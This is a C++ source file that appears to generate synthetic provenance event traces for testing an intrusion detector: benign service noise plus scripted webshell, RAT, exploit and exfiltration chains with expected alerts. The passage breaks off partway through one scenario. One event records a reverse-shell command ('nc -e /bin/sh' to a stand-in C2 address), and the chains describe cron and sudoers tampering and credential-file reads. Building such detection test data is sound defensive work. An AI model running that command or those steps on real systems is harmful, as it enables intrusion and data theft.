#include "provwatch/scenario.hpp"

#include <fstream>
#include <functional>
#include <ostream>
#include <random>
#include <sstream>

#include "json.hpp"
#include "provwatch/event.hpp"

namespace provwatch::scenario {

using json = nlohmann::json;

const char* kind_name(Kind k) {
    switch (k) {
        case Kind::L1: return "L1";
        case Kind::L2: return "L2";
        case Kind::L3: return "L3";
        case Kind::E1: return "E1";
        case Kind::E2: return "E2";
        case Kind::Benign: return "BENIGN";
    }
    return "?";
}

bool kind_from_name(const std::string& s, Kind* out) {
    for (Kind k : {Kind::L1, Kind::L2, Kind::L3, Kind::E1, Kind::E2, Kind::Benign}) {
        if (s == kind_name(k)) { *out = k; return true; }
    }
    return false;
}

std::string Manifest::to_json() const {
    json doc;
    doc["scenario"] = scenario;
    doc["seed"] = seed;
    doc["event_count"] = event_count;
    doc["attack_event_count"] = attack_event_count;
    doc["attack_entities"] = attack_entities;
    json alerts = json::array();
    for (const auto& a : expected_alerts) alerts.push_back({{"alert", a.alert}, {"process", a.process_key}});
    doc["expected_alerts"] = std::move(alerts);
    doc["apt_process"] = apt_process;
    json tl = json::array();
    for (const auto& t : label_timeline) {
        tl.push_back({{"entity", t.entity_key}, {"label", t.label}, {"index", t.event_index}});
    }
    doc["label_timeline"] = std::move(tl);
    doc["profile"] = {{"busy_eps", busy_eps}, {"idle_eps", idle_eps}};
    doc["first_ts"] = first_ts;
    doc["last_ts"] = last_ts;
    return doc.dump(2);
}

Manifest Manifest::from_json_text(const std::string& text) {
    json doc = json::parse(text);
    Manifest m;
    m.scenario = doc["scenario"].get<std::string>();
    m.seed = doc["seed"].get<uint64_t>();
    m.event_count = doc["event_count"].get<uint64_t>();
    m.attack_event_count = doc["attack_event_count"].get<uint64_t>();
    m.attack_entities = doc["attack_entities"].get<std::vector<std::string>>();
    for (const auto& a : doc["expected_alerts"]) {
        m.expected_alerts.push_back({a["alert"].get<std::string>(), a["process"].get<std::string>()});
    }
    m.apt_process = doc["apt_process"].get<std::string>();
    for (const auto& t : doc["label_timeline"]) {
        m.label_timeline.push_back({t["entity"].get<std::string>(), t["label"].get<std::string>(),
                                    t["index"].get<uint64_t>()});
    }
    m.busy_eps = doc["profile"]["busy_eps"].get<double>();
    m.idle_eps = doc["profile"]["idle_eps"].get<double>();
    m.first_ts = doc["first_ts"].get<int64_t>();
    m.last_ts = doc["last_ts"].get<int64_t>();
    return m;
}

Manifest Manifest::load(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw std::runtime_error("cannot open manifest '" + path + "'");
    std::ostringstream buf;
    buf << in.rdbuf();
    return from_json_text(buf.str());
}

namespace {

constexpr int64_t kNs = 1'000'000'000;

struct Knobs {
    double busy_eps, idle_eps;
    int64_t busy_ns, cycle_ns;
    int worker_repeat;    // run length of repeated reads/writes
    int syslog_run;
    int recv_run;
    int tmp_burst;        // temp files per burst
    int64_t tmp_budget;   // distinct one-shot temp files (-1 = unlimited)
    int64_t scan_budget;  // distinct one-shot /proc reads (-1 = unlimited)
    int cache_pool;       // browser/web cache working-set size
    int out_pool;         // shared job output files
    int w_auth, w_syslog, w_browser, w_editor, w_jobd, w_tmpd, w_scand, w_cron, w_web;
    int worker_exit_pct;  // chance a finished worker exits
    int worker_life;      // bursts before a worker winds down
    uint64_t default_events;
};

Knobs knobs_for(Kind k) {
    Knobs kb{};
    kb.busy_eps = 1200; kb.idle_eps = 60;
    kb.busy_ns = 20 * kNs; kb.cycle_ns = 120 * kNs;
    kb.worker_repeat = 2;
    kb.syslog_run = 3;
    kb.recv_run = 2;
    kb.tmp_burst = 3;
    kb.tmp_budget = 30;
    kb.scan_budget = 0;
    kb.cache_pool = 60;
    kb.out_pool = 12;
    kb.w_auth = 3; kb.w_syslog = 8; kb.w_browser = 12; kb.w_editor = 10;
    kb.w_jobd = 10; kb.w_tmpd = 4; kb.w_scand = 4; kb.w_cron = 2; kb.w_web = 0;
    kb.worker_exit_pct = 8;
    kb.worker_life = 12;
    kb.default_events = 1'000'000;
    switch (k) {
        case Kind::L1:
            kb.w_web = 8;
            kb.tmp_budget = 15;
            break;
        case Kind::L2:
            kb.tmp_budget = 4;
            break;
        case Kind::L3:
            kb.tmp_burst = 6;
            kb.tmp_budget = 280;
            kb.w_tmpd = 8;
            break;
        case Kind::E1:
            kb.busy_eps = 2500; kb.idle_eps = 120;
            kb.worker_repeat = 1; kb.syslog_run = 2; kb.recv_run = 2;
            kb.w_syslog = 5;
            kb.tmp_burst = 8; kb.tmp_budget = 900;
            kb.scan_budget = 1400;
            kb.w_tmpd = 8; kb.w_scand = 12;
            kb.default_events = 2'000'000;
            break;
        case Kind::E2:
            kb.busy_eps = 2500; kb.idle_eps = 120;
            kb.worker_repeat = 1; kb.syslog_run = 2; kb.recv_run = 2;
            kb.w_syslog = 5;
            kb.tmp_burst = 2; kb.tmp_budget = 40;
            kb.scan_budget = 300;
            kb.w_scand = 12;
            kb.default_events = 2'000'000;
            break;
        case Kind::Benign:
            kb.busy_eps = 400; kb.idle_eps = 40;
            kb.worker_exit_pct = 100;
            kb.worker_life = 3;
            kb.w_jobd = 18;
            kb.tmp_burst = 1;
            kb.w_tmpd = 1;
            kb.tmp_budget = -1;  // continuous temp churn feeds the offload path
            kb.cache_pool = 150;
            kb.w_scand = 0;
            break;
    }
    return kb;
}

struct Proc {
    EntityId id;
    std::string name;
};

class World {
public:
    World(std::ostream& out, uint64_t seed, const Knobs& k)
        : out_(out), rng_(seed), k_(k), clock_(1'000'000'000'000) {}

    uint64_t rnd(uint64_t n) { return n ? rng_() % n : 0; }
    int64_t now() const { return clock_; }
    uint64_t count() const { return emitted_; }
    int64_t first_ts() const { return first_ts_; }
    int64_t last_ts() const { return last_ts_; }

    Proc make_proc(const std::string& image) {
        return {process_id(std::to_string(next_pid_++) + ":0"), image};
    }

    uint64_t emit(EventType t, Proc& subj, const EntityId& obj, const std::string& obj_name,
                  const std::string& args = "") {
        EventRecord e;
        e.ts = clock_;
        e.etype = t;
        e.subject = subj.id;
        e.subject_name = subj.name;
        e.object = obj;
        e.object_name = obj_name;
        e.args = args;
        out_ << serialize_event(e) << '\n';
        if (emitted_ == 0) first_ts_ = clock_;
        last_ts_ = clock_;
        advance();
        return emitted_++;
    }

    uint64_t fork(Proc& parent, Proc& child) {
        return emit(EventType::Fork, parent, child.id, child.name);
    }

    uint64_t exec(Proc& p, const std::string& image) {
        uint64_t idx = emit(EventType::Execute, p, file_id(image), image);
        p.name = image;
        return idx;
    }

private:
    void advance() {
        int64_t pos = clock_ % k_.cycle_ns;
        double eps = pos < k_.busy_ns ? k_.busy_eps : k_.idle_eps;
        int64_t gap = static_cast<int64_t>(kNs / eps);
        gap = gap * (80 + static_cast<int64_t>(rnd(41))) / 100;  // +-20% jitter
        clock_ += std::max<int64_t>(1, gap);
    }

    std::ostream& out_;
    std::mt19937_64 rng_;
    Knobs k_;
    int64_t clock_;
    uint64_t emitted_ = 0;
    int64_t first_ts_ = 0;
    int64_t last_ts_ = 0;
    int next_pid_ = 100;
};

// Benign background: services under init, web browsing, document editing,
// repeated read/write runs, process churn with exits, temp-file bursts, and
// a login service that legitimately reads /etc/passwd.
class Benign {
public:
    Benign(World& w, const Knobs& k, Kind kind) : w_(w), k_(k), kind_(kind) {}

    void setup() {
        init_ = w_.make_proc("/sbin/init");
        auto svc = [&](const std::string& image) {
            Proc p = w_.make_proc(image);
            w_.fork(init_, p);
            return p;
        };
        authsvc_ = svc("/usr/sbin/authsvc");
        syslogd_ = svc("/usr/sbin/syslogd");
        browser1_ = svc("/usr/bin/firefox");
        browser2_ = svc("/usr/bin/chromium");
        editor_ = svc("/usr/bin/gedit");
        jobd_ = svc("/usr/sbin/jobd");
        tmpd_ = svc("/usr/bin/mkstage");
        scand_ = svc("/usr/sbin/inventoryd");
        cron_ = svc("/usr/sbin/cron");
        sshd_ = svc("/usr/sbin/sshd");
        admind_ = svc("/usr/sbin/setupd");
        if (k_.w_web > 0) {
            apache_master_ = svc("/usr/sbin/apache2");
            web1_ = w_.make_proc("/usr/sbin/apache2");
            w_.fork(apache_master_, web1_);
            web2_ = w_.make_proc("/usr/sbin/apache2");
            w_.fork(apache_master_, web2_);
            cgi_ = w_.make_proc("/usr/sbin/apache2");
            w_.fork(apache_master_, cgi_);
            w_.exec(cgi_, "/usr/bin/php-cgi");
        }
        for (int i = 0; i < 12; ++i) {
            hosts_.push_back(network_id("192.0.2." + std::to_string(10 + i) + ":443"));
        }
        // the cron maintenance script exists before any attack touches it
        w_.emit(EventType::Create, admind_, file_id("/tmp/cleanup.sh"), "/tmp/cleanup.sh");
        w_.emit(EventType::Write, admind_, file_id("/tmp/cleanup.sh"), "/tmp/cleanup.sh");
        if (kind_ == Kind::Benign) {
            // benign counterpart for the upload-directory pattern: written by
            // a non-networked process and read by nobody
            w_.emit(EventType::Create, admind_, file_id("/srv/uploads/report.pdf"),
                    "/srv/uploads/report.pdf");
            w_.emit(EventType::Write, admind_, file_id("/srv/uploads/report.pdf"),
                    "/srv/uploads/report.pdf");
        }
    }

    void burst() {
        if (bursts_++ == 0) {
            burst_auth(true);
            return;
        }
        int total = k_.w_auth + k_.w_syslog + k_.w_browser + k_.w_editor + k_.w_jobd + k_.w_tmpd +
                    k_.w_scand + k_.w_cron + k_.w_web;
        int r = static_cast<int>(w_.rnd(total));
        auto take = [&](int weight) {
            if (r < weight) return true;
            r -= weight;
            return false;
        };
        if (take(k_.w_auth)) burst_auth(auth_cycles_++ % 37 == 19);
        else if (take(k_.w_syslog)) burst_syslog();
        else if (take(k_.w_browser)) burst_browser(w_.rnd(2) ? browser1_ : browser2_);
        else if (take(k_.w_editor)) burst_editor();
        else if (take(k_.w_jobd)) burst_jobd();
        else if (take(k_.w_tmpd)) burst_tmpd();
        else if (take(k_.w_scand)) burst_scand();
        else if (take(k_.w_cron)) burst_cron();
        else burst_web(w_.rnd(2) ? web1_ : web2_);
    }

    Proc& browser1() { return browser1_; }
    Proc& web1() { return web1_; }
    Proc& cgi() { return cgi_; }
    Proc& cron() { return cron_; }
    Proc& sshd() { return sshd_; }
    Proc& init() { return init_; }
    Proc& authsvc() { return authsvc_; }

private:
    void run(EventType t, Proc& p, const EntityId& f, const std::string& name, int n) {
        for (int i = 0; i < n; ++i) w_.emit(t, p, f, name);
    }

    void burst_auth(bool passwd) {
        run(EventType::Read, authsvc_, file_id("/run/authsvc/sessions.db"),
            "/run/authsvc/sessions.db", 3);
        if (passwd) {
            w_.emit(EventType::Read, authsvc_, file_id("/etc/passwd"), "/etc/passwd");
        }
    }

    void burst_syslog() {
        run(EventType::Write, syslogd_, file_id("/var/log/syslog"), "/var/log/syslog",
            2 + static_cast<int>(w_.rnd(k_.syslog_run)));
    }

    void burst_browser(Proc& b) {
        const EntityId& host = hosts_[w_.rnd(hosts_.size())];
        if (w_.rnd(4) == 0) w_.emit(EventType::Connect, b, host, host.key);
        run(EventType::Recv, b, host, host.key, 2 + static_cast<int>(w_.rnd(k_.recv_run)));
        std::string cache =
            "/home/user/.cache/web/obj" + std::to_string(cache_ctr_++ % k_.cache_pool);
        w_.emit(EventType::Write, b, file_id(cache), cache);
        if (w_.rnd(6) == 0) w_.emit(EventType::Read, b, file_id(cache), cache);
    }

    void burst_editor() {
        std::string doc = "/home/user/docs/notes" + std::to_string(w_.rnd(8)) + ".txt";
        w_.emit(EventType::Open, editor_, file_id(doc), doc);
        run(EventType::Read, editor_, file_id(doc), doc, 1 + static_cast<int>(w_.rnd(k_.worker_repeat)));
        if (w_.rnd(3) == 0) {
            std::string tmp = doc + ".swp";
            run(EventType::Write, editor_, file_id(tmp), tmp,
                1 + static_cast<int>(w_.rnd(k_.worker_repeat)));
            w_.emit(EventType::Rename, editor_, file_id(tmp), tmp, doc);
        } else {
            run(EventType::Write, editor_, file_id(doc), doc,
                1 + static_cast<int>(w_.rnd(k_.worker_repeat)));
        }
        w_.emit(EventType::Close, editor_, file_id(doc), doc);
    }

    void burst_jobd() {
        if (workers_.empty() || (workers_.size() < 6 && w_.rnd(3) == 0)) {
            Worker wk;
            wk.p = w_.make_proc("/usr/sbin/jobd");
            if (!workers_.empty() && w_.rnd(8) == 0) {
                w_.emit(EventType::ForkSharedFd, jobd_, wk.p.id, wk.p.name);
            } else {
                w_.fork(jobd_, wk.p);
            }
            w_.exec(wk.p, "/usr/bin/jobworker");
            w_.emit(EventType::LoadLibrary, wk.p, file_id("/usr/lib/libtask.so"),
                    "/usr/lib/libtask.so");
            wk.in = "/var/lib/jobd/in" + std::to_string(w_.rnd(6));
            wk.out = "/var/lib/jobd/out" + std::to_string(w_.rnd(k_.out_pool));
            wk.bursts_left = 1 + k_.worker_life;
            workers_.push_back(std::move(wk));
            return;
        }
        size_t i = w_.rnd(workers_.size());
        Worker& wk = workers_[i];
        w_.emit(EventType::Open, wk.p, file_id(wk.in), wk.in);
        run(EventType::Read, wk.p, file_id(wk.in), wk.in,
            2 + static_cast<int>(w_.rnd(k_.worker_repeat)));
        run(EventType::Write, wk.p, file_id(wk.out), wk.out,
            2 + static_cast<int>(w_.rnd(k_.worker_repeat)));
        w_.emit(EventType::Close, wk.p, file_id(wk.in), wk.in);
        if (--wk.bursts_left <= 0) {
            if (static_cast<int>(w_.rnd(100)) < k_.worker_exit_pct) {
                w_.emit(EventType::Exit, wk.p, wk.p.id, wk.p.name);
            }
            workers_.erase(workers_.begin() + i);  // dormant or gone
        }
        if (w_.rnd(10) == 0) {
            std::string in = "/var/lib/jobd/in" + std::to_string(w_.rnd(6));
            w_.emit(EventType::Write, jobd_, file_id(in), in);  // refresh inputs
        }
    }

    void burst_tmpd() {
        for (int i = 0; i < k_.tmp_burst; ++i) {
            bool fresh = k_.tmp_budget < 0 || stage_ctr_ < k_.tmp_budget;
            if (fresh) {
                std::string f = "/tmp/stage" + std::to_string(stage_ctr_++);
                w_.emit(EventType::Create, tmpd_, file_id(f), f);
                w_.emit(EventType::Write, tmpd_, file_id(f), f);
                if (w_.rnd(6) == 0) w_.emit(EventType::FileProperty, tmpd_, file_id(f), f);
            } else {
                // budget spent: keep a small spool warm instead of minting files
                std::string f = "/tmp/spool" + std::to_string(w_.rnd(4));
                w_.emit(EventType::Write, tmpd_, file_id(f), f);
            }
        }
        if (stage_ctr_ > 4 && w_.rnd(4) == 0 && k_.tmp_budget < 0) {
            std::string old = "/tmp/stage" + std::to_string(w_.rnd(4));
            w_.emit(EventType::Delete, tmpd_, file_id(old), old);
        }
    }

    void burst_scand() {
        int n = 5 + static_cast<int>(w_.rnd(6));
        for (int i = 0; i < n; ++i) {
            bool fresh = k_.scan_budget < 0 || proc_scan_ctr_ < k_.scan_budget;
            std::string f = fresh
                ? "/proc/" + std::to_string(300 + proc_scan_ctr_++) + "/stat"
                : "/proc/" + std::to_string(300 + static_cast<int>(w_.rnd(40))) + "/stat";
            w_.emit(EventType::Read, scand_, file_id(f), f);
        }
    }

    void burst_cron() {
        w_.emit(EventType::Read, cron_, file_id("/etc/cron.hourly/logrotate"),
                "/etc/cron.hourly/logrotate");
        w_.emit(EventType::Write, cron_, file_id("/var/log/cron.log"), "/var/log/cron.log");
    }

    void burst_web(Proc& worker) {
        const EntityId& host = hosts_[w_.rnd(hosts_.size())];
        run(EventType::Recv, worker, host, host.key, 2 + static_cast<int>(w_.rnd(k_.recv_run)));
        std::string cache = "/var/cache/apache/obj" + std::to_string(web_cache_ctr_++ % 40);
        w_.emit(EventType::Write, worker, file_id(cache), cache);
    }

    struct Worker {
        Proc p;
        std::string in, out;
        int bursts_left = 0;
    };

    World& w_;
    Knobs k_;
    Kind kind_;
    Proc init_, authsvc_, syslogd_, browser1_, browser2_, editor_, jobd_, tmpd_, scand_, cron_,
        sshd_, admind_, apache_master_, web1_, web2_, cgi_;
    std::vector<EntityId> hosts_;
    std::vector<Worker> workers_;
    uint64_t bursts_ = 0;
    int auth_cycles_ = 0;
    int cache_ctr_ = 0;
    int web_cache_ctr_ = 0;
    int stage_ctr_ = 0;
    int proc_scan_ctr_ = 0;
};

// One attack step at a corpus position, plus manifest bookkeeping helpers.
struct Script {
    struct Step {
        double frac;
        std::function<void()> fn;
    };
    std::vector<Step> steps;
    Manifest* m = nullptr;
    uint64_t attack_events = 0;

    void at(double frac, std::function<void()> fn) { steps.push_back({frac, std::move(fn)}); }
    void expect(const std::string& alert, const Proc& p) {
        m->expected_alerts.push_back({alert, p.id.key});
    }
    void timeline(const EntityId& e, const char* label, uint64_t idx) {
        m->label_timeline.push_back({e.key, label, idx});
    }
    void entity(const EntityId& e) {
        m->attack_entities.push_back(std::string(to_wire(e.kind)) + ":" + e.key);
    }
};

// Attack chains for the five scenarios. Each emits the narrative's events
// and records the expected alerts, the APT process, and the label timeline
// implied by the shipped policy.
class Attacks {
public:
    Attacks(World& w, Benign& bg, Script& s, Kind kind) : w_(w), bg_(bg), s_(s) {
        switch (kind) {
            case Kind::L1: build_l1(); break;
            case Kind::L2: build_l2(); break;
            case Kind::L3: build_l3(); break;
            case Kind::E1: build_e1(); break;
            case Kind::E2: build_e2(); break;
            case Kind::Benign: break;
        }
    }

private:
    // Webshell: upload -> mmap by the cgi worker -> gated command execution ->
    // cron script tampering -> privileged shell -> sensitive files -> secret
    // written -> exfiltration through a second webshell session.
    void build_l1() {
        auto cli = network_id("203.0.113.7:44321");
        auto shell_php = file_id("/var/www/html/uploads/shell.php");
        auto cleanup = file_id("/tmp/cleanup.sh");
        auto secret = file_id("/home/admin/secret.tar");
        auto c2 = network_id("198.51.100.9:4444");

        s_.at(0.12, [this, cli, shell_php] {
            Proc& web = bg_.web1();
            w_.emit(EventType::Recv, web, cli, cli.key);
            w_.emit(EventType::Recv, web, cli, cli.key);
            uint64_t idx = w_.emit(EventType::Write, web, shell_php, shell_php.key);
            s_.timeline(shell_php, "FU1", idx);
            s_.timeline(shell_php, "FU2", idx);
        });
        s_.at(0.16, [this, shell_php] {
            uint64_t idx = w_.emit(EventType::Mmap, bg_.cgi(), shell_php, shell_php.key);
            s_.timeline(bg_.cgi().id, "PS4", idx);
        });
        s_.at(0.18, [this, cleanup] {
            cmd1_ = w_.make_proc("/usr/bin/php-cgi");
            w_.fork(bg_.cgi(), cmd1_);
            uint64_t idx = w_.exec(cmd1_, "/bin/sh");
            s_.timeline(cmd1_.id, "PB4", idx);
            s_.expect("Webshell", cmd1_);
            w_.emit(EventType::Read, cmd1_, file_id("/etc/crontab"), "/etc/crontab");
            w_.emit(EventType::Read, cmd1_, cleanup, cleanup.key);
        });
        s_.at(0.20, [this, cleanup] {
            uint64_t idx = w_.emit(EventType::Write, cmd1_, cleanup, cleanup.key);
            s_.timeline(cleanup, "FU4", idx);
            w_.emit(EventType::Exit, cmd1_, cmd1_.id, cmd1_.name);
        });
        s_.at(0.30, [this, cleanup, c2] {
            sh_ = w_.make_proc("/usr/sbin/cron");
            w_.fork(bg_.cron(), sh_);
            w_.exec(sh_, "/bin/sh");
            uint64_t idx = w_.emit(EventType::Read, sh_, cleanup, cleanup.key);
            s_.timeline(sh_.id, "PB4", idx);
            Proc nc = w_.make_proc("/bin/sh");
            w_.fork(sh_, nc);
            w_.exec(nc, "/usr/bin/nc");
            w_.emit(EventType::Connect, nc, c2, c2.key, "nc -e /bin/sh 198.51.100.9 4444");
        });
        s_.at(0.36, [this] {
            uint64_t idx = w_.emit(EventType::Write, sh_, file_id("/etc/crontab"), "/etc/crontab");
            s_.timeline(sh_.id, "PB6", idx);
            s_.expect("Suspicious Behavior", sh_);
        });
        s_.at(0.38, [this] {
            uint64_t idx = w_.emit(EventType::Write, sh_, file_id("/etc/sudoers"), "/etc/sudoers");
            s_.timeline(sh_.id, "PB7", idx);
        });
        s_.at(0.40, [this] {
            uint64_t idx = w_.emit(EventType::Read, sh_, file_id("/etc/passwd"), "/etc/passwd");
            s_.timeline(sh_.id, "PS6", idx);
        });
        s_.at(0.42, [this] {
            uint64_t idx = w_.emit(EventType::Read, sh_, file_id("/home/admin/.bash_history"),
                                   "/home/admin/.bash_history");
            s_.timeline(sh_.id, "PS7", idx);
        });
        s_.at(0.50, [this, secret] {
            uint64_t idx = w_.emit(EventType::Write, sh_, secret, secret.key);
            s_.timeline(secret, "FH5", idx);
            w_.emit(EventType::Exit, sh_, sh_.id, sh_.name);
        });
        s_.at(0.80, [this, secret, cli, shell_php, cleanup] {
            Proc cmd2 = w_.make_proc("/usr/bin/php-cgi");
            w_.fork(bg_.cgi(), cmd2);
            w_.exec(cmd2, "/bin/sh");
            s_.expect("Webshell", cmd2);
            uint64_t idx = w_.emit(EventType::Read, cmd2, secret, secret.key);
            s_.timeline(cmd2.id, "PB8", idx);
            s_.expect("Data Exfiltration", cmd2);
            s_.expect("APT", cmd2);
            w_.emit(EventType::Send, cmd2, cli, cli.key);
            w_.emit(EventType::Send, cmd2, cli, cli.key);
            s_.m->apt_process = cmd2.id.key;
            s_.entity(bg_.web1().id);
            s_.entity(bg_.cgi().id);
            s_.entity(cmd1_.id);
            s_.entity(sh_.id);
            s_.entity(cmd2.id);
            s_.entity(shell_php);
            s_.entity(cleanup);
            s_.entity(secret);
            s_.entity(cli);
        });
    }

    // RAT: phishing download -> trojan executed -> reverse shell -> cron
    // script tampering propagates FU5 -> privileged shell -> secret -> the
    // trojan reads and ships the loot.
    void build_l2() {
        auto phish = network_id("203.0.113.66:443");
        auto vpn = file_id("/home/user/Downloads/vpn.elf");
        auto cleanup = file_id("/tmp/cleanup.sh");
        auto secret = file_id("/home/admin/secret.tar");
        auto c2 = network_id("198.51.100.77:8443");

        s_.at(0.10, [this] {
            ush_ = w_.make_proc("/bin/bash");
            w_.fork(bg_.init(), ush_);
        });
        s_.at(0.12, [this, phish, vpn] {
            Proc& b = bg_.browser1();
            w_.emit(EventType::Connect, b, phish, phish.key);
            w_.emit(EventType::Recv, b, phish, phish.key);
            w_.emit(EventType::Recv, b, phish, phish.key);
            uint64_t idx = w_.emit(EventType::Write, b, vpn, vpn.key);
            s_.timeline(vpn, "FU2", idx);
        });
        s_.at(0.18, [this, vpn, c2] {
            rat_ = w_.make_proc(vpn.key);
            w_.fork(ush_, rat_);
            uint64_t idx = w_.exec(rat_, vpn.key);
            s_.timeline(rat_.id, "PB1", idx);
            s_.expect("Download&Execution", rat_);
            w_.emit(EventType::Connect, rat_, c2, c2.key);
            w_.emit(EventType::Recv, rat_, c2, c2.key);
        });
        s_.at(0.22, [this] {
            uint64_t idx = w_.exec(rat_, "/bin/sh");
            s_.timeline(rat_.id, "PB5", idx);
            s_.expect("RAT", rat_);
        });
        s_.at(0.30, [this, cleanup] {
            w_.emit(EventType::Read, rat_, cleanup, cleanup.key);
            uint64_t idx = w_.emit(EventType::Write, rat_, cleanup, cleanup.key);
            s_.timeline(cleanup, "FU5", idx);
        });
        s_.at(0.40, [this, cleanup] {
            sh2_ = w_.make_proc("/usr/sbin/cron");
            w_.fork(bg_.cron(), sh2_);
            w_.exec(sh2_, "/bin/sh");
            uint64_t idx = w_.emit(EventType::Read, sh2_, cleanup, cleanup.key);
            s_.timeline(sh2_.id, "PB1", idx);
            s_.expect("Download&Execution", sh2_);
            s_.expect("RAT", sh2_);
        });
        s_.at(0.44, [this] {
            w_.emit(EventType::Write, sh2_, file_id("/etc/crontab"), "/etc/crontab");
            s_.expect("Suspicious Behavior", sh2_);
        });
        s_.at(0.47, [this] {
            w_.emit(EventType::Write, sh2_, file_id("/etc/sudoers"), "/etc/sudoers");
        });
        s_.at(0.50, [this] {
            w_.emit(EventType::Read, sh2_, file_id("/etc/passwd"), "/etc/passwd");
            w_.emit(EventType::Read, sh2_, file_id("/home/admin/.bash_history"),
                    "/home/admin/.bash_history");
        });
        s_.at(0.60, [this, secret] {
            uint64_t idx = w_.emit(EventType::Write, sh2_, secret, secret.key);
            s_.timeline(secret, "FH5", idx);
            w_.emit(EventType::Exit, sh2_, sh2_.id, sh2_.name);
        });
        s_.at(0.82, [this, secret, c2, vpn, cleanup, phish] {
            uint64_t idx = w_.emit(EventType::Read, rat_, secret, secret.key);
            s_.timeline(rat_.id, "PB8", idx);
            s_.expect("Data Exfiltration", rat_);
            s_.expect("APT", rat_);
            w_.emit(EventType::Send, rat_, c2, c2.key);
            w_.emit(EventType::Send, rat_, c2, c2.key);
            s_.m->apt_process = rat_.id.key;
            s_.entity(bg_.browser1().id);
            s_.entity(ush_.id);
            s_.entity(rat_.id);
            s_.entity(sh2_.id);
            s_.entity(vpn);
            s_.entity(cleanup);
            s_.entity(secret);
            s_.entity(phish);
        });
    }

    // Living-off-the-land: string overflow against a vulnerable service,
    // "(null)" file interaction, in-memory shell, then the shared tail.
    void build_l3() {
        auto attacker = network_id("203.0.113.200:51822");
        auto nullfile = file_id("(null)");
        auto cleanup = file_id("/tmp/cleanup.sh");
        auto secret = file_id("/home/admin/secret.tar");

        s_.at(0.10, [this, attacker] {
            svc_ = w_.make_proc("/usr/sbin/telemetryd");
            w_.fork(bg_.init(), svc_);
            w_.emit(EventType::Recv, svc_, attacker, attacker.key);
            w_.emit(EventType::Recv, svc_, attacker, attacker.key);
            w_.emit(EventType::Recv, svc_, attacker, attacker.key);
        });
        s_.at(0.16, [this, nullfile] {
            uint64_t idx = w_.emit(EventType::Read, svc_, nullfile, nullfile.key);
            s_.timeline(nullfile, "FU3", idx);
            s_.timeline(svc_.id, "PS5", idx);
        });
        s_.at(0.20, [this] {
            uint64_t idx = w_.exec(svc_, "/bin/sh");
            s_.timeline(svc_.id, "PB5", idx);
            s_.expect("Living-off-the-land", svc_);
        });
        s_.at(0.28, [this, cleanup] {
            w_.emit(EventType::Read, svc_, cleanup, cleanup.key);
            uint64_t idx = w_.emit(EventType::Write, svc_, cleanup, cleanup.key);
            s_.timeline(cleanup, "FU6", idx);
        });
        s_.at(0.40, [this, cleanup] {
            sh3_ = w_.make_proc("/usr/sbin/cron");
            w_.fork(bg_.cron(), sh3_);
            w_.exec(sh3_, "/bin/sh");
            uint64_t idx = w_.emit(EventType::Read, sh3_, cleanup, cleanup.key);
            s_.timeline(sh3_.id, "PS5", idx);
            s_.expect("Living-off-the-land", sh3_);
        });
        s_.at(0.44, [this] {
            w_.emit(EventType::Write, sh3_, file_id("/etc/crontab"), "/etc/crontab");
            s_.expect("Suspicious Behavior", sh3_);
        });
        s_.at(0.48, [this] {
            w_.emit(EventType::Write, sh3_, file_id("/etc/sudoers"), "/etc/sudoers");
            w_.emit(EventType::Read, sh3_, file_id("/etc/passwd"), "/etc/passwd");
            w_.emit(EventType::Read, sh3_, file_id("/home/admin/.bash_history"),
                    "/home/admin/.bash_history");
        });
        s_.at(0.60, [this, secret] {
            uint64_t idx = w_.emit(EventType::Write, sh3_, secret, secret.key);
            s_.timeline(secret, "FH5", idx);
            w_.emit(EventType::Exit, sh3_, sh3_.id, sh3_.name);
        });
        s_.at(0.82, [this, secret, attacker, nullfile, cleanup] {
            uint64_t idx = w_.emit(EventType::Read, svc_, secret, secret.key);
            s_.timeline(svc_.id, "PB8", idx);
            s_.expect("Data Exfiltration", svc_);
            s_.expect("APT", svc_);
            w_.emit(EventType::Send, svc_, attacker, attacker.key);
            s_.m->apt_process = svc_.id.key;
            s_.entity(svc_.id);
            s_.entity(sh3_.id);
            s_.entity(nullfile);
            s_.entity(cleanup);
            s_.entity(secret);
            s_.entity(attacker);
        });
    }

    // Information gather & exfiltration plus malicious download & execute.
    // No single process completes an APT pair here.
    void build_e1() {
        auto exfil = network_id("198.51.100.40:22");
        auto scpsrc = network_id("203.0.113.90:22");
        auto lateral = network_id("10.0.3.7:22");
        auto recon = file_id("/tmp/netrecon.log");
        auto ccleaner = file_id("/home/admin/ccleaner");
        auto sysinfo = file_id("/tmp/sysinfo.tar");
        auto pts = file_id("/dev/pts/1");

        s_.at(0.08, [this] {
            sess_ = w_.make_proc("/usr/sbin/sshd");
            w_.fork(bg_.sshd(), sess_);
            w_.exec(sess_, "/bin/bash");
        });
        s_.at(0.11, [this, pts] {
            const char* tools[] = {"/sbin/ifconfig", "/usr/sbin/tcpdump", "/bin/ps",
                                   "/usr/bin/groups", "/usr/bin/dirname"};
            for (const char* tool : tools) {
                Proc c = w_.make_proc(tool);
                w_.fork(sess_, c);
                w_.exec(c, tool);
                w_.emit(EventType::Read, c, file_id("/proc/net/dev"), "/proc/net/dev");
                w_.emit(EventType::Write, c, pts, pts.key);
                w_.emit(EventType::Exit, c, c.id, c.name);
            }
        });
        s_.at(0.16, [this] {
            uint64_t idx = w_.emit(EventType::Read, sess_, file_id("/etc/passwd"), "/etc/passwd");
            s_.timeline(sess_.id, "PS6", idx);
            s_.expect("Suspicious Behavior", sess_);
            w_.emit(EventType::Read, sess_, file_id("/etc/shadow"), "/etc/shadow");
        });
        s_.at(0.20, [this, pts, recon] {
            uint64_t idx = w_.emit(EventType::Write, sess_, pts, pts.key);
            s_.timeline(pts, "FH5", idx);
            idx = w_.emit(EventType::Write, sess_, recon, recon.key);
            s_.timeline(recon, "FH5", idx);
        });
        s_.at(0.24, [this, recon, exfil] {
            scp1_ = w_.make_proc("/usr/bin/scp");
            w_.fork(sess_, scp1_);
            s_.expect("Suspicious Behavior", scp1_);  // inherits PS6 at fork
            w_.exec(scp1_, "/usr/bin/scp");
            uint64_t idx = w_.emit(EventType::Read, scp1_, recon, recon.key);
            s_.timeline(scp1_.id, "PB8", idx);
            s_.expect("Data Exfiltration", scp1_);
            w_.emit(EventType::Connect, scp1_, exfil, exfil.key);
            w_.emit(EventType::Send, scp1_, exfil, exfil.key);
            w_.emit(EventType::Send, scp1_, exfil, exfil.key);
        });
        s_.at(0.45, [this, scpsrc, ccleaner] {
            recv_ = w_.make_proc("/usr/sbin/sshd");
            w_.fork(bg_.sshd(), recv_);
            w_.exec(recv_, "/usr/bin/scp");
